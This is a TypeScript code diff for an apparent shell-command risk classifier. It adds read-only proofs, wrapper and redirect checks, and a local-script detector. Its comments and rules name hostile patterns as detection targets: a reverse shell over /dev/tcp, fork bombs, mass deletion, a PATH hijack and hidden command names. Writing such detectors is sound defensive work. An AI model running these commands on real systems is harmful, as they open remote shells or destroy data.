@@ -1,6 +1,16 @@
 import type { Best } from "./best.js";
 import { startupHookInUnit } from "./env-hooks.js";
+import { SHELLS } from "./opaque.js";
 import { classifyOpaque } from "./opaque-rules.js";
+import {
+  interpreterInfoOnly,
+  provenArgv,
+  provenPerItem,
+  provenRedirect,
+  safeVariable,
+  shellCommandOnly,
+  transparentWrapper,
+} from "./readonly/prove.js";
 import { redirectHit } from "./redirects.js";
 import { Args, initScript, lookupRule, type Rule } from "./rules/index.js";
 import { subcommandVerdict } from "./rules/subcommands.js";
@@ -107,7 +117,10 @@ export function argvHit(words: Word[], c: ArgvCtx, unwraps: number): void {
     c.best.consider(3, "nesting_limit", c.part);
     return;
   }
-  if (c.scope.windows && isPowerShellExpression(words)) return;
+  if (c.scope.windows && isPowerShellExpression(words)) {
+    c.best.doubt();
+    return;
+  }
   if (nameWord.dynamic || nameWord.glob) {
     // The program that runs is decided at run time ($CMD, $(echo rm), r*m): nothing
     // we could match is visible, and hiding the name is how rules are dodged.
@@ -117,21 +130,41 @@ export function argvHit(words: Word[], c: ArgvCtx, unwraps: number): void {
   const path = nameWord.value;
   let name = baseName(path).toLowerCase();
   if (c.scope.windows && name.endsWith(".exe")) name = name.slice(0, -4);
-  if (name === "") return;
+  if (name === "") {
+    c.best.doubt();
+    return;
+  }
   const args = words.slice(1);
-  if (classifyOpaque(name, args, c, unwraps)) return;
+  if (classifyOpaque(name, args, c, unwraps)) {
+    // Shells, interpreters, eval, source: what they run is not a read the table can prove. awk reads
+    // its program, which the table checks for its own writes and executions.
+    c.best.prove(
+      (AWK.has(name) && provenArgv(name, args, c.scope.windows)) ||
+        interpreterInfoOnly(name, args) ||
+        (SHELLS.has(name) && shellCommandOnly(args)),
+    );
+    return;
+  }
   const wrapped = unwrap(name, args);
   if (wrapped !== null) {
     if (wrapped.base !== null) c.best.consider(wrapped.base.tier, wrapped.base.basis, c.part);
+    // A wrapper that only bounds or times its command is proven when its own options are; the
+    // command it carries is proven on its own below. Any other wrapper (sudo, ssh, nohup …) is not.
+    c.best.prove(transparentWrapper(name, args));
     const inner: ArgvCtx = wrapped.stdinConsumed ? { ...c, stdin: null } : c;
     for (const argv of wrapped.inners) {
       const innerName = baseName(argv[0]?.value ?? "").toLowerCase();
       if (wrapped.perItem && MASS_DELETE.has(innerName)) c.best.consider(3, "file_destruction", c.part);
+      if (wrapped.perItem && !provenPerItem(innerName)) c.best.doubt();
       argvHit(argv, inner, unwraps + 1);
     }
     for (const s of wrapped.scripts) scriptWord(s, inner, inner.stdin);
     return;
   }
+  // A path to a program (`./check`, `/opt/x/bin/ls`) may be any program: only bare names and the
+  // system's own directories are looked up in the read-only table.
+  c.best.prove(systemPath(path) && provenArgv(name, args, c.scope.windows));
+  // The rules still judge a proven form: Tier 0 needs the proof and no rule against it.
   const rule = lookupRule(c.scope.rules, name);
   const parsed = new Args(args);
   const tableHit =
@@ -145,6 +178,28 @@ export function argvHit(words: Word[], c: ArgvCtx, unwraps: number): void {
   }
   const script = initScript(path, parsed);
   if (script !== null) c.best.consider(script.tier, script.basis, c.part);
+  if (rule === undefined && h === null && script === null) localScript(path, name, c);
+}
+
+/** Names of script files by their extension: what runs is the file's text, which the call does not show. */
+const SCRIPT_NAME = /\.(?:sh|bash|zsh|ksh|py|pl|rb|php|js|mjs|ts|lua|tcl|awk)$/;
+
+/**
+ * `./install.sh`, `deploy.py`, `scripts/run`: a program from a local file, a script by its name or
+ * a path relative to the working directory. What it runs is not part of the call: Tier 2
+ * (script_file), as for `bash FILE`. Programs named by an absolute path are left to the rest.
+ */
+function localScript(path: string, name: string, c: ArgvCtx): void {
+  const relative = path.includes("/") && !path.startsWith("/");
+  if (relative || SCRIPT_NAME.test(name)) c.best.consider(2, "script_file", c.part);
+}
+
+const AWK = new Set(["awk", "gawk", "mawk", "nawk", "busybox-awk"]);
+
+/** A command name found on the usual PATH, or written as a path into the system's program directories. */
+function systemPath(path: string): boolean {
+  if (!path.includes("/")) return true;
+  return /^\/(?:usr\/)?(?:local\/)?s?bin\/[^/]+$/.test(path);
 }
 
 function stdinOf(unit: Unit, index: ScriptIndex, inherited: StdinCtx | null): StdinCtx | null {
@@ -183,13 +238,17 @@ export function classifyUnits(
     argvHit(unit.words, c, 0);
     const hook = startupHookInUnit(unit);
     if (hook !== null) best.consider(2, "startup_env", unit.text);
+    for (const a of unit.assigns) if (!safeVariable(a.name, a.value)) best.doubt();
     for (const r of unit.redirects) {
       const h = redirectHit(r, unit);
       if (h !== null) best.consider(h.tier, h.basis, r.text);
+      if (!provenRedirect(r)) best.doubt();
     }
     if (unit.redirects.length > 0 && unit.words.length > 0) shellNetworkRedirect(unit, best);
   }
   for (const fn of index.forkBombs()) best.consider(3, "fork_bomb", fn);
+  // A variable set for the rest of the script (`PATH=/tmp/x`, `GIT_DIR=…`) changes what later commands run.
+  for (const a of script.assigns) if (!safeVariable(a.name, a.value)) best.doubt();
 }
 
 /** `bash -i >& /dev/tcp/host/port 0>&1`: a shell wired to a socket runs whatever the far end sends. */
